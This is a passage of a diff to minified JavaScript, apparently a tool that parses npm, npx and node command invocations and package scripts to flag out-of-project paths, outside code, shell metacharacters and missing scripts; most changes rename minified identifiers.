 "exec"&&ff(i))return{invocation:{},problems:o};const c=/[;&|<>$`'"(){}\\*?]/.test(i)||AB(i);if(!Ir(i)&&(n==="exec"||c))return{
 invocation:{},problems:o};const l={subcommand:n,operands:[e],passthrough:t},B=Ds(i)?i:r.families.allowed.get(i);if(B!==void 0){
-const{launched:C,problems:y}=r.start({program:B,words:t},s.program);return{invocation:{...l,launched:C},problems:y}}if(zi(
+const{launched:C,problems:y}=r.start({program:B,words:t},s.program);return{invocation:{...l,launched:C},problems:y}}if(Ji(
 i)||n==="exec"&&Lt(i)!==void 0)return{invocation:l,problems:o};const{problems:d,...h}=r.tool(e,t),g=n==="exec"||Or(r.families.
-tools,i);return{invocation:{...l,...h},problems:g?d:[]}}function pD(n,e,t){const{program:s,use:r}=n,{invocation:i,named:o,
-problems:c}=Qi({program:s,use:r,words:e,family:n,parsing:t}),B=[...o.files.filter(({as:h})=>h!=="place"),...i.files??[]];
-return{invocation:{program:s,family:n,...{flags:[],operands:[],passthrough:[]},...i,files:B},problems:c}}function Qi(n){
+tools,i);return{invocation:{...l,...h},problems:g?d:[]}}function CD(n,e,t){const{program:s,use:r}=n,{invocation:i,named:o,
+problems:c}=eo({program:s,use:r,words:e,family:n,parsing:t}),B=[...o.files.filter(({as:h})=>h!=="place"),...i.files??[]];
+return{invocation:{program:s,family:n,...{flags:[],operands:[],passthrough:[]},...i,files:B},problems:c}}function eo(n){
 const{program:e,use:t}=n,{behind:s,data:r}=t,i=s?n.words.findIndex(({text:_})=>_==="--"):-1,o=i<0?n.words:n.words.slice(
-0,i),c=ks(t,o),l=c.rest?[...c.flags,c.rest.flag]:c.flags,B=i<0||!s?[]:ks(s,n.words.slice(i+1)).flags,d=[...l.map(_=>Vi(e,
-t,_)),...B.map(_=>Vi(e,s??t,_))],h=(t.stops?c.started:c.operands).slice(r.skips??0),{invocation:g,named:C,problems:y}=gD(
+0,i),c=ks(t,o),l=c.rest?[...c.flags,c.rest.flag]:c.flags,B=i<0||!s?[]:ks(s,n.words.slice(i+1)).flags,d=[...l.map(_=>Xi(e,
+t,_)),...B.map(_=>Xi(e,s??t,_))],h=(t.stops?c.started:c.operands).slice(r.skips??0),{invocation:g,named:C,problems:y}=wD(
 n,{flags:[...l,...B],operands:h,...c.rest&&{rest:{module:c.rest.flag.flag?.kind==="module",words:c.rest.words}}});return{
-invocation:{...g,...r.any_package&&{anyPackage:!0},flags:[...l.map(mD),...g.flags??[]]},named:{files:[...d.flatMap(({files:_=[]})=>_),
+invocation:{...g,...r.any_package&&{anyPackage:!0},flags:[...l.map(yD),...g.flags??[]]},named:{files:[...d.flatMap(({files:_=[]})=>_),
 ...C?.files??[]],roots:d.flatMap(({root:_=[]})=>_),nodeFlags:d.flatMap(({nodeFlags:_=[]})=>_)},problems:[...d.flatMap(_=>_.
-problems),...y]}}function mD({word:n,written:e,value:t}){return{name:e,written:e,span:n.span,...t!==void 0&&{value:t}}}function gD(n,e){
-const{program:t,use:s,path:r,family:i,parsing:o}=n,{flags:c,operands:l,rest:B}=e,[d,...h]=l,g=Uk(t,s,l);if(g.length>0&&s.
+problems),...y]}}function yD({word:n,written:e,value:t}){return{name:e,written:e,span:n.span,...t!==void 0&&{value:t}}}function wD(n,e){
+const{program:t,use:s,path:r,family:i,parsing:o}=n,{flags:c,operands:l,rest:B}=e,[d,...h]=l,g=Wk(t,s,l);if(g.length>0&&s.
 stops)return{invocation:{},problems:g};const C=d&&s.subcommands.get(d.text),y=C?.data.starts==="own-script"?"own-script":
-s.data.starts;if(d&&C&&y!=="own-script"){const O=r===void 0?d.text:`${r} ${d.text}`;return Qi({...n,use:C,path:O,words:h})}
+s.data.starts;if(d&&C&&y!=="own-script"){const O=r===void 0?d.text:`${r} ${d.text}`;return eo({...n,use:C,path:O,words:h})}
 const _={...r!==void 0&&{subcommand:r},...c.some(({flag:O})=>O?.kind==="checks-syntax-only")&&{parsed:!0}},k=(()=>{if(B&&
-i)return B.module?lD(i,B.words,o):{invocation:{passthrough:B.words},problems:wD(t,B.words)};if(y!==void 0&&i===void 0)return Vk(
-y,n,e);if(d===void 0)return{invocation:{},problems:CD(n,c)};if(y!==void 0&&i)return dD(y,d,h,{family:i,parsing:o});if(s.
+i)return B.module?fD(i,B.words,o):{invocation:{passthrough:B.words},problems:ED(t,B.words)};if(y!==void 0&&i===void 0)return eD(
+y,n,e);if(d===void 0)return{invocation:{},problems:bD(n,c)};if(y!==void 0&&i)return hD(y,d,h,{family:i,parsing:o});if(s.
 subcommands.size>0){const R=Xe("unknown-subcommand",d.span,{program:t,subcommand:d.text});return{invocation:{operands:[d],
-passthrough:h},problems:[R]}}const O=l.filter(({span:R})=>g.every(z=>z.span!==R)),D=Wk(s,O);return{invocation:{operands:l},
-problems:Jk(t,s,l),named:{files:D}}})(),v=[...g,...yD(n,c),...k.problems];return{...k,invocation:{..._,...k.invocation},
-problems:v}}function mf(n){return n.some(({flag:e,off:t})=>e?.kind==="only-prints"&&!t)}function CD({program:n,use:e},t){
-const s=mf(t)?void 0:e.data.alone,r={text:"",span:{start:0,end:n.length}};return s?[St(s,n,r)]:[]}function yD({program:n,
+passthrough:h},problems:[R]}}const O=l.filter(({span:R})=>g.every(z=>z.span!==R)),D=Yk(s,O);return{invocation:{operands:l},
+problems:Kk(t,s,l),named:{files:D}}})(),v=[...g,..._D(n,c),...k.problems];return{...k,invocation:{..._,...k.invocation},
+problems:v}}function mf(n){return n.some(({flag:e,off:t})=>e?.kind==="only-prints"&&!t)}function bD({program:n,use:e},t){
+const s=mf(t)?void 0:e.data.alone,r={text:"",span:{start:0,end:n.length}};return s?[St(s,n,r)]:[]}function _D({program:n,
 use:e,path:t,words:s},r){if(mf(r))return[];const i=new Set(r.flatMap(({flag:c,off:l})=>c&&!l?c.name:[])),o=s[0]?.span??{
 start:0,end:0};return Object.entries(e.data.unless??{}).flatMap(([c,l])=>l.split(" ").some(B=>i.has(B))?[]:[St(c,n,{text:t??
-"",span:o})])}function wD(n,e){return e.filter(({text:s})=>/^--?test\./.test(s)).map(s=>St("skips-tests",n,s))}function bD(n,e,t){
+"",span:o})])}function ED(n,e){return e.filter(({text:s})=>/^--?test\./.test(s)).map(s=>St("skips-tests",n,s))}function vD(n,e,t){
 const{text:s}=n,{tools:r}=t.families,i=r.refusal(s);if(i!==void 0)return{problems:[St(i,s,n)]};const o=r.known(s),c=o??r.
-unknown(s),{invocation:l,named:B,problems:d}=Qi({program:s,use:c,words:e,parsing:t}),{launched:h}=l;return{tool:B,...h&&
-{launched:h},problems:o?d:[...d,...gf(n,e,c)]}}function _D(n,e,t,s=Ha){const{problems:r}=Qi({program:n.text,use:t,words:e,
+unknown(s),{invocation:l,named:B,problems:d}=eo({program:s,use:c,words:e,parsing:t}),{launched:h}=l;return{tool:B,...h&&
+{launched:h},problems:o?d:[...d,...gf(n,e,c)]}}function kD(n,e,t,s=Ua){const{problems:r}=eo({program:n.text,use:t,words:e,
 parsing:s});return[...r,...gf(n,e,t)]}function gf({text:n},e,t){const{flags:s,operands:r}=ks(t,e),i=e[e.findIndex(({text:B})=>B===
 "--")+1],o=[...new Set([r[0],i])].filter(B=>B!==void 0&&OB(B.text)),c=s.filter(({written:B,flag:d,value:h=""})=>/^-[ex]$/.
-test(B)&&/\s/.test(h)||d?.kind!=="config"&&XE(h)),l=r.filter(({text:B})=>AB(B));return[...o,...c.map(({word:B})=>B),...l].
-flatMap(B=>B===void 0?[]:[St("outside-code",n,B)])}const ED=5,vD={node:sf,npm:ZB,npx:Mv};function nc(n,e,t=Ar){return sc(
-n,e,t,0)}function sc(n,e,t,s){const r=(h,g)=>kD(h,g,t,s+1),i={families:t,start:r,tool:(h,g)=>bD(h,g,i)};if(typeof n!="st\
-ring")return pD(n,e,i);const{invocation:o,problems:c}=vD[n](e,i),[l]=n==="node"&&!Yi(o)?o.operands:[];if(l===void 0)return{
-invocation:o,problems:c};const B=OD(l.text,t.tools).map(h=>{const g=["--",h].map(C=>({...l,text:C}));return r({program:"\
+test(B)&&/\s/.test(h)||d?.kind!=="config"&&nv(h)),l=r.filter(({text:B})=>AB(B));return[...o,...c.map(({word:B})=>B),...l].
+flatMap(B=>B===void 0?[]:[St("outside-code",n,B)])}const DD=5,xD={node:sf,npm:ZB,npx:zv};function rc(n,e,t=Ar){return ic(
+n,e,t,0)}function ic(n,e,t,s){const r=(h,g)=>OD(h,g,t,s+1),i={families:t,start:r,tool:(h,g)=>vD(h,g,i)};if(typeof n!="st\
+ring")return CD(n,e,i);const{invocation:o,problems:c}=xD[n](e,i),[l]=n==="node"&&!Qi(o)?o.operands:[];if(l===void 0)return{
+invocation:o,problems:c};const B=TD(l.text,t.tools).map(h=>{const g=["--",h].map(C=>({...l,text:C}));return r({program:"\
 npx",words:[...g,...o.passthrough],starts:"file"},n)}),d=B.flatMap(h=>h.launched);return{invocation:d.length>0?{...o,launched:d}:
-o,problems:[...c,...B.flatMap(h=>h.problems)]}}function Xi({launched:n=[]}){return n.flatMap(e=>[e,...Xi(e)])}function kD({
-program:n,words:e,...t},s,r,i){const[o={text:"",span:{start:0,end:0}},...c]=e,l=i===ED?"outside-code":n?void 0:DD(o.text,
+o,problems:[...c,...B.flatMap(h=>h.problems)]}}function to({launched:n=[]}){return n.flatMap(e=>[e,...to(e)])}function OD({
+program:n,words:e,...t},s,r,i){const[o={text:"",span:{start:0,end:0}},...c]=e,l=i===DD?"outside-code":n?void 0:AD(o.text,
 r.tools);if(l)return{launched:[],problems:[St(l,s,o)]};const B=n??(Ds(o.text)?o.text:void 0),{invocation:d,problems:h}=B?
-sc(B,n?e:c,r,i):sc("npx",e,r,i);return{launched:[{...d,...t}],problems:h}}function DD(n,e){return n.startsWith("-")?"unk\
-nown-flag":Lt(n)!==void 0&&!Ds(n)&&!Or(e,n)?"outside-code":void 0}const xD=/^(?:.*\/)?node_modules\/((?:@[^/]+\/)?[^/]+)(?:\/(?:.*\/)?([^/]+))?$/s;
-function OD(n,e){const t=Le.posix.normalize(n.replaceAll("\\","/")).replace(/\/$/,"");if(/(?:^|\/)\.yarn\/releases\//.test(
-t))return["yarn"];const[,s,r=""]=xD.exec(t)??[];if(s===void 0)return[];if(s===".bin")return[r];const o=[...new Set([r.replace(
-/\.[cm]?[jt]s$/,""),s])].filter(c=>Or(e,c));return o.length>0?o:[s]}const AD=new Set(["--env-file","--env-file-if-exists",
+ic(B,n?e:c,r,i):ic("npx",e,r,i);return{launched:[{...d,...t}],problems:h}}function AD(n,e){return n.startsWith("-")?"unk\
+nown-flag":Lt(n)!==void 0&&!Ds(n)&&!Or(e,n)?"outside-code":void 0}const SD=/^(?:.*\/)?node_modules\/((?:@[^/]+\/)?[^/]+)(?:\/(?:.*\/)?([^/]+))?$/s;
+function TD(n,e){const t=Le.posix.normalize(n.replaceAll("\\","/")).replace(/\/$/,"");if(/(?:^|\/)\.yarn\/releases\//.test(
+t))return["yarn"];const[,s,r=""]=SD.exec(t)??[];if(s===void 0)return[];if(s===".bin")return[r];const o=[...new Set([r.replace(
+/\.[cm]?[jt]s$/,""),s])].filter(c=>Or(e,c));return o.length>0?o:[s]}const ID=new Set(["--env-file","--env-file-if-exists",
 "--prefix"]);function Cf(n,e){const{passthrough:t}=n,s=[],r=(o,c)=>{const l=Qn(o,c,e);l!==void 0&&s.push(l)};for(const o of[
-n,...Xi(n)]){for(const{name:l,value:B,span:d}of o.flags)B!==void 0&&(AD.has(l)&&r(B,d),l==="--workspace"&&/^\.{1,2}(?:[\\/]|$)|^[\\/]/.
-test(B)&&r(B,d));for(const{as:l,path:B,span:d}of o.subcommand==="exec"&&o.tool?.files||[]){const h=l==="tests"?rc(B,d,e):
-void 0;h!==void 0&&s.push(h)}if(o.program!=="node"&&o.starts!=="file")continue;const c=o.program==="node"&&Yi(o)?rc:Qn;for(const{
-text:l,span:B}of o.operands){const d=l===""||l==="-"?void 0:c(l,B,e);d!==void 0&&s.push(d)}}const i=t.find(({text:o})=>SD.
-test(o));return i!==void 0&&s.push(Xe("absolute-path",i.span,{path:i.text})),s}const SD=/^(?:-[^=]*=)?(?:\/(?:home|Users|root|tmp|var|opt|mnt|Volumes|private)\/|[A-Za-z]:[\\/](?!\/))/;
-function rc(n,e,t){if(!ic(n))return Qn(n,e,t);const s=Nr(n);if(s===void 0)return Xe("glob-unclear",e,{pattern:n,reason:"\
+n,...to(n)]){for(const{name:l,value:B,span:d}of o.flags)B!==void 0&&(ID.has(l)&&r(B,d),l==="--workspace"&&/^\.{1,2}(?:[\\/]|$)|^[\\/]/.
+test(B)&&r(B,d));for(const{as:l,path:B,span:d}of o.subcommand==="exec"&&o.tool?.files||[]){const h=l==="tests"?oc(B,d,e):
+void 0;h!==void 0&&s.push(h)}if(o.program!=="node"&&o.starts!=="file")continue;const c=o.program==="node"&&Qi(o)?oc:Qn;for(const{
+text:l,span:B}of o.operands){const d=l===""||l==="-"?void 0:c(l,B,e);d!==void 0&&s.push(d)}}const i=t.find(({text:o})=>$D.
+test(o));return i!==void 0&&s.push(Xe("absolute-path",i.span,{path:i.text})),s}const $D=/^(?:-[^=]*=)?(?:\/(?:home|Users|root|tmp|var|opt|mnt|Volumes|private)\/|[A-Za-z]:[\\/](?!\/))/;
+function oc(n,e,t){if(!ac(n))return Qn(n,e,t);const s=Nr(n);if(s===void 0)return Xe("glob-unclear",e,{pattern:n,reason:"\
 too_many"});for(const r of[n,...s]){const i=Qn(r,e,t);if(i!==void 0)return{...i,args:{...i.args,path:n}}}}function Qn(n,e,t){
 if(/^[A-Za-z][A-Za-z0-9+.-]+:/.test(n)&&/^(?:data|node|file|[a-z]+:\/)/i.test(n))return Xe("target-outside",e,{path:n,reason:"\
 address"});const s=/^(?:[\\/]|[A-Za-z]:)/.test(n),r=s?void 0:ft(t===""?n:`${t}/${n}`);if(r===void 0)return Xe("target-ou\
 tside",e,{path:n,reason:s?"absolute":"above"});if(rn(r,".git",{ignoreCase:!0}))return Xe("target-outside",e,{path:n,reason:"\
 git"})}function yf(n){return n.length>200||n.split("**").length>2?!1:n==="."?!0:n.split("/").every(e=>/^(?!\.{1,2}$)[\w@.*-]+$/.
-test(e))}function eo(n,e,t={}){return to(n.split("/"),e.split("/"),t)}function to(n,e,t){const[s,...r]=n,[i,...o]=e;return s===
-void 0?t.partial||e.every(c=>c==="**"):i===void 0?!1:i!=="**"?wf(s,i,t)&&to(r,o,t):to(n,o,t)?!0:wf(s,"*",t)&&to(r,e,t)}function wf(n,e,{
-dot:t=!1}){return n.startsWith(".")&&!e.startsWith(".")&&!t?!1:TE(n,e)}function ic(n){return/[*?[{]/.test(n)}function TD(n){
-return n.replace(/(?<![^/])[^/]*[*?[{].*$/s,"")}const ID=200,$D=1e3;function Nr(n){if(n.length>$D)return;let e=[n.replace(
+test(e))}function no(n,e,t={}){return so(n.split("/"),e.split("/"),t)}function so(n,e,t){const[s,...r]=n,[i,...o]=e;return s===
+void 0?t.partial||e.every(c=>c==="**"):i===void 0?!1:i!=="**"?wf(s,i,t)&&so(r,o,t):so(n,o,t)?!0:wf(s,"*",t)&&so(r,e,t)}function wf(n,e,{
+dot:t=!1}){return n.startsWith(".")&&!e.startsWith(".")&&!t?!1:RE(n,e)}function ac(n){return/[*?[{]/.test(n)}function RD(n){
+return n.replace(/(?<![^/])[^/]*[*?[{].*$/s,"")}const ND=200,FD=1e3;function Nr(n){if(n.length>FD)return;let e=[n.replace(
 /\[(.)(?:-\1)?\]/gs,"$1")];const t=[];for(;e.length>0;){const s=[];for(const r of e){const i=/\{([^{},]*(?:,[^{},]*)+)\}/.
 exec(r);if(i===null)t.push(r);else{const{0:o,1:c="",index:l}=i,[B,d]=[r.slice(0,l),r.slice(l+o.length)];s.push(...c.split(
-",").map(h=>`${B}${h}${d}`))}}if(s.length+t.length>ID)return;e=s}return t}const bf=kr(async(n,e)=>{const t=(await xn(n,e))?.
+",").map(h=>`${B}${h}${d}`))}}if(s.length+t.length>ND)return;e=s}return t}const bf=kr(async(n,e)=>{const t=(await xn(n,e))?.
 workspaces??[],s=t.map(d=>Nr(d)?.map(h=>h.replace(/^\.?\/+/,"").replace(/\/$/,""))),r=d=>d?.every(yf)===!0,i=s.findIndex(
-d=>!r(d));if(i>=0)return{unclear:t[i]??""};const o=(d,h)=>g=>g?.some(C=>eo(d,C,h))===!0,c=[];for(const{path:d,kind:h}of s.
+d=>!r(d));if(i>=0)return{unclear:t[i]??""};const o=(d,h)=>g=>g?.some(C=>no(d,C,h))===!0,c=[];for(const{path:d,kind:h}of s.
 length===0?[]:n.files()){const g=_f(e,d);if(g===void 0||(Le.posix.basename(d)==="package.json"&&c.push(Le.posix.dirname(
 g)),h!=="symlink"||!s.some(o(g,{partial:!0}))))continue;const C=At(n,d);if(C.kind==="outside"||C.kind==="inside"&&C.entry.
 kind==="directory")return{unclear:d}}const l=c.filter(d=>s.some(o(d))&&!d.split("/").includes("node_modules")).sort((d,h)=>d.
-localeCompare(h,"en")),B=s.flatMap(d=>l.filter(h=>o(h,{partial:!0})(d)));return RD(n,e,[...new Set(B)])});async function RD(n,e,t){
+localeCompare(h,"en")),B=s.flatMap(d=>l.filter(h=>o(h,{partial:!0})(d)));return PD(n,e,[...new Set(B)])});async function PD(n,e,t){
 const s=[],r=new Set;for(const i of t){const o=Le.posix.join(e,i).replace(/^\.$/,""),c=await Rr(n,o);if(c===void 0)continue;
-if(c===Ln)return{broken:`${o}/package.json`};const l=c.name||ND(o);if(r.has(l))return{broken:c.path};r.add(l),s.push({directory:o,
-name:l})}return s}function ND(n){const e=Le.posix.basename(Le.posix.dirname(n)),t=Le.posix.basename(n);return e.startsWith(
-"@")?`${e}/${t}`:t}function _f(n,e){return n===""?e:e.startsWith(`${n}/`)?e.slice(n.length+1):void 0}function FD(n,e,{directory:t,
+if(c===Ln)return{broken:`${o}/package.json`};const l=c.name||LD(o);if(r.has(l))return{broken:c.path};r.add(l),s.push({directory:o,
+name:l})}return s}function LD(n){const e=Le.posix.basename(Le.posix.dirname(n)),t=Le.posix.basename(n);return e.startsWith(
+"@")?`${e}/${t}`:t}function _f(n,e){return n===""?e:e.startsWith(`${n}/`)?e.slice(n.length+1):void 0}function jD(n,e,{directory:t,
 project:s}){const r=_f(s,`${t}/`)!==void 0,i=Le.posix.resolve("/",r?t:s,e),o=B=>Le.posix.join("/",B.directory),c=B=>Le.posix.
 dirname(o(B))===i;if(!(!(t===s&&!/^\.\/|\/\.[^/]*$/.test(e))&&n.some(c)))return n.filter(B=>B.name===e||o(B)===i||c(B))}
-const Ef={script:"",passes:!1};async function PD(n,e,t){const{workspace:s,workspaces:r,includeRoot:i}=n,o=await LD(n,e,t);
+const Ef={script:"",passes:!1};async function MD(n,e,t){const{workspace:s,workspaces:r,includeRoot:i}=n,o=await GD(n,e,t);
 if("problems"in o)return o;const{directory:c,implied:l}=o;if(r===!1&&s.length>0)return He("flag-value",t,{program:"npm",
 flag:"--no-workspaces",fault:"npm refuses it beside `--workspace`"});const B={project:c,directories:[c],selected:!1,missing:[]};
 if(r!==!0&&s.length===0&&l===void 0)return B;const d=await xn(e.tree,c);if(d===void 0)return B;const h=await vf(c,e,t);if("\
 problems"in h)return h;const g=new Map;i&&g.set(d.name,c);const C=[],y=s.length===0;for(const _ of h)y&&(l===void 0||_.directory===
-l)&&g.set(_.name,_.directory);for(const _ of s){const k={directory:e.directory,project:c},v=FD(h,_,k);if(v===void 0)return He(
+l)&&g.set(_.name,_.directory);for(const _ of s){const k={directory:e.directory,project:c},v=jD(h,_,k);if(v===void 0)return He(
 "target-outside",t,{path:_,reason:"workspace"});v.length===0&&C.push(Xe("npm-script-missing",t,{...Ef,workspace:_}));for(const O of v)
 g.set(O.name,O.directory)}return g.size===0?C.length>0?{targets:[],problems:C}:He("npm-script-missing",t,{...Ef,workspace:""}):
-{project:c,directories:[...g.values()],selected:!0,missing:C}}async function LD({prefix:n,workspaces:e},t,s){if(n!==void 0)
-return jD(n,t,s);const{tree:r,directory:i}=t,o=Fr(i),c=o.find(l=>kf(r,l)||MD(r,l));if(c===void 0||!kf(r,c))return He("pa\
+{project:c,directories:[...g.values()],selected:!0,missing:C}}async function GD({prefix:n,workspaces:e},t,s){if(n!==void 0)
+return HD(n,t,s);const{tree:r,directory:i}=t,o=Fr(i),c=o.find(l=>kf(r,l)||zD(r,l));if(c===void 0||!kf(r,c))return He("pa\
 ckage-json-missing",s,{directory:i});if(e===!1)return{directory:c};for(const l of o.slice(o.indexOf(c)+1)){const B=await vf(
 l,t,s);if("problems"in B)return B;if(B.some(d=>d.directory===c))return{directory:l,implied:c}}return{directory:c}}async function vf(n,{
 tree:e},t){const s=await bf(e,n);return"unclear"in s?He("target-outside",t,{path:s.unclear,reason:"workspace"}):"broken"in
-s?He("package-json-invalid",t,{path:s.broken}):s}function jD(n,e,t){if(ft(Pt(e,n))===void 0)return pt;const s=Da(At(e.tree,
+s?He("package-json-invalid",t,{path:s.broken}):s}function HD(n,e,t){if(ft(Pt(e,n))===void 0)return pt;const s=Oa(At(e.tree,
 Pt(e,n)),n,t);return"problems"in s?s:{directory:s.path}}function Fr(n){const e=n.split("/"),t=e.map((s,r)=>e.slice(0,e.length-
-r).join("/"));return n===""?t:[...t,""]}function kf(n,e){return At(n,Le.posix.join(e,"package.json")).kind!=="missing"}function MD(n,e){
-return At(n,Le.posix.join(e,"node_modules")).kind==="inside"}const GD=new Set(["--usage","--version","--versions"]);function oc({
-flags:n}){const e=n.findLast(({name:r})=>r==="--prefix")?.value,t=no(n,"--workspaces"),s=no(n,"--ignore-scripts");return{
-informs:n.some(({name:r})=>GD.has(r)),...e===void 0?{}:{prefix:e},...t===void 0?{}:{workspaces:t},workspace:n.flatMap(({
-name:r,value:i})=>r==="--workspace"&&i?[i]:[]),includeRoot:no(n,"--include-workspace-root")===!0,...s===void 0?{}:{ignoreScripts:s},
-ifPresent:no(n,"--if-present")===!0}}function no(n,e){const t=n.findLast(s=>s.name===e);return t&&t.negated!==!0}const Df={
-selected:!1,runs:[],packages:[],problems:[]};function ac({body:n,words:e}){return[n,...e.map(({text:t})=>If(t))].join(" ")}
-async function xf(n,e,t){const s=oc(n),r=Sf(n);if(s.informs||r===void 0)return Df;const i=y=>PD(s,y,t),o=await i(e);if("\
-problems"in o)return{...Df,problems:o.problems};const{project:c,selected:l,directories:B}=o,d=s.ignoreScripts??await zD(
-{...e,directory:c}),h=[],g=[...o.missing,...await HD(o,e,t,i)];let C=!1;for(const y of B){const _=await Rr(e.tree,y);if(_===
+r).join("/"));return n===""?t:[...t,""]}function kf(n,e){return At(n,Le.posix.join(e,"package.json")).kind!=="missing"}function zD(n,e){
+return At(n,Le.posix.join(e,"node_modules")).kind==="inside"}const UD=new Set(["--usage","--version","--versions"]);function cc({
+flags:n}){const e=n.findLast(({name:r})=>r==="--prefix")?.value,t=ro(n,"--workspaces"),s=ro(n,"--ignore-scripts");return{
+informs:n.some(({name:r})=>UD.has(r)),...e===void 0?{}:{prefix:e},...t===void 0?{}:{workspaces:t},workspace:n.flatMap(({
+name:r,value:i})=>r==="--workspace"&&i?[i]:[]),includeRoot:ro(n,"--include-workspace-root")===!0,...s===void 0?{}:{ignoreScripts:s},
+ifPresent:ro(n,"--if-present")===!0}}function ro(n,e){const t=n.findLast(s=>s.name===e);return t&&t.negated!==!0}const Df={
+selected:!1,runs:[],packages:[],problems:[]};function uc({body:n,words:e}){return[n,...e.map(({text:t})=>If(t))].join(" ")}
+async function xf(n,e,t){const s=cc(n),r=Sf(n);if(s.informs||r===void 0)return Df;const i=y=>MD(s,y,t),o=await i(e);if("\
+problems"in o)return{...Df,problems:o.problems};const{project:c,selected:l,directories:B}=o,d=s.ignoreScripts??await ZD(
+{...e,directory:c}),h=[],g=[...o.missing,...await JD(o,e,t,i)];let C=!1;for(const y of B){const _=await Rr(e.tree,y);if(_===
 Ln){const k=Le.posix.join(y,"package.json");g.push(...He("package-json-invalid",t,{path:k}).problems)}else if(_===void 0)
 g.push(...He("package-json-missing",t,{directory:y}).problems);else if(_.scripts.has(r)){const k={event:r,words:n.passthrough},
 v=Tf(_,y,k,{ignoreScripts:d});h.push(...v),g.push(...Of(v,r,{...e,directory:y},t))}else C=!0}if(C){const y={script:r,passes:s.
 ifPresent},_=s.ifPresent&&h.length===0&&e.via===void 0,k=r==="start"||_;g.push(Xe("npm-script-missing",t,y,k?"error":void 0))}
-return{project:c,selected:l,runs:h,packages:B,problems:g}}async function HD({project:n,directories:e},{base:t,...s},r,i){
+return{project:c,selected:l,runs:h,packages:B,problems:g}}async function JD({project:n,directories:e},{base:t,...s},r,i){
 const o=Le.posix.join(n,"package.json");if(t===void 0||!s.changed.has(o))return[];const c=await i({...s,tree:t});if("pro\
 blems"in c)return[];const l=c.directories.filter(B=>!e.includes(B));return l.length===0?[]:[Xe("workspaces-changed",r,{path:o,
 lost:l})]}function Of(n,e,{via:t,directory:s},r){if(n.some(({event:o,body:c})=>o===e&&!Af(c)))return[];const i={script:e,
 path:Le.posix.join(s,"package.json")};return[Xe("npm-script-empty",r,i,t===void 0?"error":"warning")]}function Af(n){return n.
 split(`
-`).every(e=>/^\s*(?:#|$)/.test(e))}async function zD(n){const e=await Vs(n);return"settings"in e&&e.settings["ignore-scr\
+`).every(e=>/^\s*(?:#|$)/.test(e))}async function ZD(n){const e=await Vs(n);return"settings"in e&&e.settings["ignore-scr\
 ipts"]===!0}function Sf({subcommand:n,operands:e}){switch(n){case"run":return e[0]?.text;case"test":case"start":case"sto\
 p":return n;default:return}}function Tf({scripts:n},e,{event:t,words:s},{ignoreScripts:r}={}){return(r?[t]:[`pre${t}`,t,
-`post${t}`]).flatMap(o=>{const c=n.get(o);return c?[{directory:e,event:o,body:c,words:o===t?s:[]}]:[]})}const UD=/[\t\n\r "#$&'()*;<>?\\`|~]/;
-function If(n){return n===""?"''":UD.test(n)?`'${n.replaceAll("'","'\\''")}'`.replace(/^(?:'')+(?!$)/,"").replaceAll("\\'\
-''","\\'"):n}const $f={start:0,end:0},JD=200;function Rf({steps:n}){return n.flatMap(e=>e.command?.nested?Rf(e.command.nested):
-[e])}async function Nf(n,e,t={left:JD}){const{subcommand:s,flags:r}=n;if(s===void 0)return;const{project:i,selected:o,runs:c,
+`post${t}`]).flatMap(o=>{const c=n.get(o);return c?[{directory:e,event:o,body:c,words:o===t?s:[]}]:[]})}const WD=/[\t\n\r "#$&'()*;<>?\\`|~]/;
+function If(n){return n===""?"''":WD.test(n)?`'${n.replaceAll("'","'\\''")}'`.replace(/^(?:'')+(?!$)/,"").replaceAll("\\'\
+''","\\'"):n}const $f={start:0,end:0},KD=200;function Rf({steps:n}){return n.flatMap(e=>e.command?.nested?Rf(e.command.nested):
+[e])}async function Nf(n,e,t={left:KD}){const{subcommand:s,flags:r}=n;if(s===void 0)return;const{project:i,selected:o,runs:c,
 packages:l}=await xf(n,e,$f);if(i===void 0)return;const B=await Vs({...e,directory:i}),d=await Ff(e,i);if("unread"in B||
-d===void 0)return;const{settings:h}=B,g=XD.some(v=>v in h);if(d.devEngines!==void 0||g)return;const C=[],y=e0(r,h);for(const v of l){
+d===void 0)return;const{settings:h}=B,g=n0.some(v=>v in h);if(d.devEngines!==void 0||g)return;const C=[],y=s0(r,h);for(const v of l){
 const O=await Ff(e,v),D=O&&!O.bin&&"bin"in on(O.directories);if(O===void 0||D)return;const R=c.filter(L=>L.directory===v),
-z=R.length===0?await qD(n,e,v):void 0;z!==void 0&&C.push({...Pf(O),...z,directory:v});for(const L of R){const Q=await ZD(
-L,e,y,t);C.push({...Pf(O),...Q})}}const _=h["node-options"],{prefix:k}=oc(n);return{subcommand:s,directory:e.directory,project:i,
+z=R.length===0?await QD(n,e,v):void 0;z!==void 0&&C.push({...Pf(O),...z,directory:v});for(const L of R){const Q=await qD(
+L,e,y,t);C.push({...Pf(O),...Q})}}const _=h["node-options"],{prefix:k}=cc(n);return{subcommand:s,directory:e.directory,project:i,
 prefixed:k!==void 0,inWorkspaces:o,config:y,...typeof _=="string"&&{nodeOptions:_},steps:C}}async function Ff({tree:n},e){
 const t=await $r(n,Pt({directory:e},"package.json"));return t===void 0||t===Ln?void 0:on(t)}function Pf(n){const{name:e,
-version:t}=n;return{packageId:e&&t?`${String(e)}@${String(t)}`:"",packageEnv:t0(n)}}async function ZD(n,e,t,s){const{directory:r,
-event:i,body:o}=n,c=ac(n),l={...e,directory:r},B=VD(c),d=await KD(B,l,{config:t,budget:s}),h=n.words.map(C=>C.text),g=B&&
-{...B,...d&&{nested:d}};return{directory:r,event:i,body:o,words:h,text:c,...g&&{command:g}}}const WD=new Set(["--if-pres\
-ent","--include-workspace-root","--workspace","--workspaces"]);async function KD(n,e,{config:t,budget:s}){if(!(n?.argv[0]===
+version:t}=n;return{packageId:e&&t?`${String(e)}@${String(t)}`:"",packageEnv:r0(n)}}async function qD(n,e,t,s){const{directory:r,
+event:i,body:o}=n,c=uc(n),l={...e,directory:r},B=e0(c),d=await VD(B,l,{config:t,budget:s}),h=n.words.map(C=>C.text),g=B&&
+{...B,...d&&{nested:d}};return{directory:r,event:i,body:o,words:h,text:c,...g&&{command:g}}}const YD=new Set(["--if-pres\
+ent","--include-workspace-root","--workspace","--workspaces"]);async function VD(n,e,{config:t,budget:s}){if(!(n?.argv[0]===
 "npm"&&Object.keys(n.env).length===0)||t.npm_config_ignore_scripts==="true"||(s.left-=1,s.left<0))return;const i=n.argv.
-slice(1).map(B=>({text:B,span:$f,quoted:!0})),{invocation:o,problems:c}=ZB(i),l=o.flags.every(({name:B})=>WD.has(B));if(!(c.
-length>0||!l))return Nf(o,e,s)}async function qD(n,{tree:e},t){const s=Sf(n),r=(await xn(e,t))?.scripts.has(s??"");if(!(s===
